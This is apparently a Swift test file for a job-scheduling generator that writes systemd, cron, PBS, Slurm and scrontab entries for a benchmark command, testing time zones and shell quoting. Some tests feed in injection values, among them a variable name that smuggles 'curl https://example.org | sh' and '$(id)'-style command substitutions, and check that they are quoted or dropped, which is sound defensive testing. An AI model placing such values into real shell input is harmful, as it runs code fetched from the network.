import ALCFSystem
import TestSupport
import Testing

@testable import ALCFReport

@Suite struct StudyJobsTests {
    private func jobs(folder: String = "/home/me/week", due: [Int] = [PlanFixture.first, PlanFixture.first + 50_400])
        -> StudyJobs
    {
        StudyJobs(name: "week", program: "/usr/local/bin/alcf", folder: folder, due: due, seconds: 1500)
    }

    /// Chicago: summer time ends on 2026-11-01 at 07:00 UTC.
    private func chicago(_ seconds: Int) -> LocalTime {
        let isSummer = seconds < 1_793_516_400
        let offset = isSummer ? -18_000 : -21_600
        let text = Array(DateText.iso8601(Double(seconds + offset)).utf8)
        func number(_ range: Range<Int>) -> Int { text[range].reduce(0) { 10 * $0 + Int($1 - 0x30) } }
        return LocalTime(
            year: number(0..<4), month: number(5..<7), day: number(8..<10), hour: number(11..<13),
            minute: number(14..<16), utcOffset: offset, zone: isSummer ? "CDT" : "CST")
    }

    @Test func timersHaveUTC() {
        let text = jobs().text(for: .systemd)
        #expect(text.contains("OnCalendar=2026-11-28 06:00:00 UTC\nOnCalendar=2026-11-28 20:00:00 UTC\n"))
        #expect(text.contains("ExecStart=/usr/local/bin/alcf benchmark study run /home/me/week\n"))
        #expect(text.contains("Persistent=true") && text.contains("TimeoutStartSec=1500"))
    }

    /// Twelve hours over the end of summer time: the clocks show 22:00 and 09:00.
    @Test func cronHasLocalTimeOverTheEndOfSummerTime() {
        let text = jobs(due: [1_793_502_000, 1_793_545_200]).text(for: .cron, local: chicago)
        #expect(text.contains("\n0 22 31 10 * /usr/local/bin/alcf benchmark study run /home/me/week\n"))
        #expect(text.contains("\n0 9 1 11 * /usr/local/bin/alcf"))
        #expect(text.contains("(CDT and CST)"))
    }

    @Test func pathsAreQuotedForEachReader() {
        let odd = jobs(folder: "/home/me/50% of $HOME's \"work\"")
        #expect(
            odd.text(for: .systemd).contains(
                #"ExecStart=/usr/local/bin/alcf benchmark study run "/home/me/50%% of $$HOME's \"work\"""#))
        // In a crontab, % is the end of a line.
        #expect(odd.text(for: .cron, local: chicago).contains(#"run '/home/me/50\% of $HOME'\''s "work"'"#))
        #expect(
            odd.text(for: .pbs).contains(
                #"exec /usr/local/bin/alcf benchmark study run '/home/me/50% of $HOME'\''s "work"'"#))
    }

    @Test(arguments: [StudyJobs.Calendar.systemd, .pbs, .slurm])
    func scriptsAreOnesOfTheShell(_ calendar: StudyJobs.Calendar) async throws {
        for folder in ["/home/me/week", "/a b/$(touch x)/'q'/`id`"] {
            let result = try await Program("sh").run(["-n"], input: jobs(folder: folder).text(for: calendar))
            #expect(result.exitCode == 0, "\(result.errors)")
        }
    }

    /// What a batch system is really given, in the zone of the machine that submits.
    @Test(arguments: [
        (StudyJobs.Calendar.pbs, "qsub", "-a 202611280000.00 -N alcf-week -j oe -l walltime=00:25:00 -A mine"),
        (
            .slurm, "sbatch",
            "--begin=2026-11-28T00:00:00 --job-name=alcf-week --ntasks=1 --time=00:25:00 -A mine"
        ),
    ])
    func batchSystemsAreGivenLocalTime(_ calendar: StudyJobs.Calendar, _ program: String, _ words: String) async throws
    {
        let folder = try TemporaryDirectory()
        let log = folder.file("log")
        try AtomicFile.write(
            Array("#!/bin/sh\necho \"$*\" >>\(log)\ncat >>\(log)\n".utf8), to: folder.file(program), permissions: 0o700)
        var jobs = jobs()
        jobs.options = "-A mine"
        let result = try await Program("sh").run(
            environment: ["PATH": "\(folder.path):/usr/bin:/bin", "TZ": "CST6CDT,M3.2.0,M11.1.0"],
            input: jobs.text(for: calendar))
        #expect(result.exitCode == 0, "\(result.errors)")
        let said = String(decoding: try FileContents(path: log).bytes, as: UTF8.self)
        #expect(
            said.hasPrefix(words + "\n#!/bin/sh\nexec /usr/local/bin/alcf benchmark study run /home/me/week\n"),
            "\(said)")
        #expect(said.split(separator: "\n").count { $0.contains("alcf-week") } == 2)
    }

    @Test func scrontabHasALineOfOptionsBeforeEach() {
        let text = jobs().text(for: .scrontab, local: chicago)
        #expect(
            text.contains(
                "#SCRON --time=00:25:00 --job-name=alcf-week\n0 0 28 11 * /usr/local/bin/alcf benchmark study run /home/me/week\n"
            ))
    }

    @Test func keysAreNamedAndNotHeld() {
        var jobs = jobs()
        // A plan may come from someone else, and the text goes to a shell.
        jobs.variables = ["X\ncurl https://example.org | sh\n#", "A B", "", "$(id)", "MY_KEY"]
        #expect(jobs.variables == ["MY_KEY"])
        for calendar in StudyJobs.Calendar.allCases {
            #expect(jobs.text(for: calendar).contains("The jobs need MY_KEY: set it where they start"))
        }
    }
}
